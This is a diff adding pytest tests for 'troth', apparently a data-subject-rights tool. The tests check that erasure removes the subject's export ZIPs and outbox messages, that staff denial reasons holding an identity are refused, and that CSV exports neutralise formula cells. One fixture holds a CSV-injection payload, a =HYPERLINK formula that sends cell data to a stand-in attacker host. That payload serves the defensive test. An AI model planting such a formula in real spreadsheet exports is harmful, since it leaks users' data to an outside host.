@@ -1,0 +1,155 @@
+"""An erasure leaves no copy behind in troth itself, and troth keeps no raw identity.
+
+Attacks from issue 14: an erased subject's earlier export ZIPs and the outbox messages
+with their address and codes survived the erasure; a staff reason stored a raw e-mail;
+a cell such as =HYPERLINK(...) went into an export's CSV as a live formula. The reference
+app is in SQLite; the engine store in SQLite (.troth/troth.db) and PostgreSQL.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import zipfile
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from sqlalchemy import select, text
+
+from test_rights import App, dump, make_app, pick_subject, run_cli, start
+from troth import ledger, rights
+from troth.errors import InvalidInput
+from troth.outbox import compose, list_outbox, message_key, send
+from troth.rights import tables as t
+from troth.rights.export import Sheet, to_csv
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
+
+
+@pytest.fixture(params=["sqlite", "postgresql"])
+def app(
+    request: pytest.FixtureRequest, tmp_path: Path, sqlite_url: str, monkeypatch: pytest.MonkeyPatch
+) -> Iterator[App]:
+    on_pg = request.param == "postgresql"
+    if on_pg:
+        monkeypatch.setenv("TROTH_STORE_URL", request.getfixturevalue("pg_url"))
+    yield from make_app(tmp_path, sqlite_url, monkeypatch, keep_store_url=on_pg)
+
+
+def other_than(app: App, subject: dict[str, Any]) -> dict[str, Any]:
+    users = dump(app.engine)["users"].values()
+    return next(u for u in users if u["status"] == "active" and u["id"] != subject["id"])
+
+
+def exported(app: App, kind: str, identity: str, value: str) -> rights.Request:
+    done = rights.run_request(app.project, app.store, start(app, kind, identity, value).id)
+    assert rights.export_path(app.project, done.id).exists()
+    return done
+
+
+def copies_of(app: App, subject: dict[str, Any], other: dict[str, Any]) -> list[rights.Request]:
+    """Two exports and three messages (one half-written) for `subject`, one of each for
+    `other`; returns the subject's export requests."""
+    mine = [
+        exported(app, "access", "email", subject["email"]),
+        exported(app, "portability", "user_id", str(subject["id"])),
+    ]
+    exported(app, "access", "email", other["email"])
+    address = subject["email"].swapcase()  # the outbox keeps the case it was given
+    send(app.project, address, "Your sign-in code", "123456", kind="otp")
+    key = message_key("3", subject["email"])
+    send(app.project, subject["email"], "Policy", "changed", kind="policy.notice", key=key)
+    half = compose("troth@localhost", address, "Your code", "654321", "otp")
+    (app.project.outbox_dir / ".tmp-crashed.eml").write_bytes(half.as_bytes())
+    send(app.project, other["email"], "Your sign-in code", "999999", kind="otp")
+    return mine
+
+
+def check_copies_gone(
+    app: App, done: rights.Request, mine: list[rights.Request], other: dict[str, Any]
+) -> None:
+    assert done.status == "completed"
+    assert not any(rights.export_path(app.project, r.id).exists() for r in mine)
+    left = {p.name for p in app.project.exports_dir.iterdir()}
+    assert len(left) == 1, "the other person's export stays"
+    assert [m.to.lower() for m in list_outbox(app.project)] == [other["email"].lower()]
+    assert not any(p.name.startswith(".tmp-") for p in app.project.outbox_dir.iterdir())
+    assert done.result["copies"] == {"exports": 2, "outbox": 3}
+    steps = [e for e in ledger.entries(app.store, ref=done.id) if e.kind == "request.step"]
+    (copies,) = [e.data for e in steps if e.data["store"] == ".troth"]
+    assert copies["rows"] == {"exports": 2, "outbox": 3}
+
+
+@pytest.mark.parametrize("identity", ["email", "user_id"])
+def test_erasure_deletes_the_subjects_exports_and_messages(app: App, identity: str) -> None:
+    """By user id, the account's e-mail names the messages (read before it is erased)."""
+    subject = pick_subject(app)
+    other = other_than(app, subject)
+    mine = copies_of(app, subject, other)
+    value = subject["email"] if identity == "email" else str(subject["id"])
+    request = start(app, "erasure", identity, value)
+    done = rights.run_request(app.project, app.store, request.id)
+    check_copies_gone(app, done, mine, other)
+    with app.store.connect() as conn:
+        stored = conn.execute(select(t.steps.c.detail)).scalars().all()
+    assert subject["email"].lower() not in json.dumps(stored).lower()
+
+
+@pytest.mark.slow
+def test_a_killed_erasure_resumes_and_deletes_the_copies(app: App) -> None:
+    subject = pick_subject(app)
+    other = other_than(app, subject)
+    mine = copies_of(app, subject, other)
+    request = start(app, "erasure", "phone", subject["phone"])
+    killed = run_cli(app, "run", request.id, kill_at="blob:2")
+    assert killed.returncode == -9, killed.stderr
+    assert rights.export_path(app.project, mine[0].id).exists()  # not reached yet
+    assert run_cli(app, "run", request.id).returncode == 0
+    check_copies_gone(app, rights.get_request(app.store, request.id), mine, other)
+
+
+@pytest.mark.parametrize(
+    ("reason", "what"),
+    [
+        ("duplicate of Bob@Example.com's request", "an e-mail address"),
+        ("asked again from +1 (555) 123-4567", "a phone number"),
+        ("sent from 203.0.113.9", "an IP address"),
+    ],
+)
+def test_a_denial_reason_holding_an_identity_is_refused(app: App, reason: str, what: str) -> None:
+    request = rights.create_request(app.project, app.store, "access", "email", "ann@example.com")
+    with pytest.raises(InvalidInput) as refused:
+        rights.deny_request(app.project, app.store, request.id, reason)
+    assert what in str(refused.value) and reason not in str(refused.value)
+    assert rights.get_request(app.store, request.id).status == "received"
+    denied = rights.deny_request(app.project, app.store, request.id, "identity not confirmed")
+    assert denied.status == "denied" and denied.identity_value is None
+    with app.store.connect() as conn:
+        row = conn.execute(select(t.requests).where(t.requests.c.id == request.id)).one()
+    assert "example.com" not in json.dumps(row._asdict(), default=str)
+
+
+def test_a_cell_a_spreadsheet_would_run_is_neutralized() -> None:
+    cells = [FORMULA, "+1 555 0100", "-2+3", "@SUM(A1)", "\tx", "\rx", "plain", "a=b"]
+    sheet = Sheet("app.t", ["v", "n"], [{"v": c, "n": -5} for c in cells])
+    rows = list(csv.DictReader(io.StringIO(to_csv(sheet))))
+    assert [r["v"] for r in rows] == ["'" + c for c in cells[:6]] + cells[6:]
+    assert {r["n"] for r in rows} == {"-5"}  # a number is no formula
+
+
+def test_an_export_csv_holds_no_formula_and_its_json_is_untouched(app: App) -> None:
+    subject = pick_subject(app)
+    with app.engine.begin() as conn:
+        conn.execute(
+            text("UPDATE users SET display_name = :f WHERE id = :u"),
+            {"f": FORMULA, "u": subject["id"]},
+        )
+    done = exported(app, "access", "user_id", str(subject["id"]))
+    with zipfile.ZipFile(rights.export_path(app.project, done.id)) as zf:
+        (row,) = csv.DictReader(io.StringIO(zf.read("data/app/users.csv").decode()))
+        (user,) = json.loads(zf.read("data/app/users.json"))
+    assert row["display_name"] == "'" + FORMULA
+    assert user["display_name"] == FORMULA
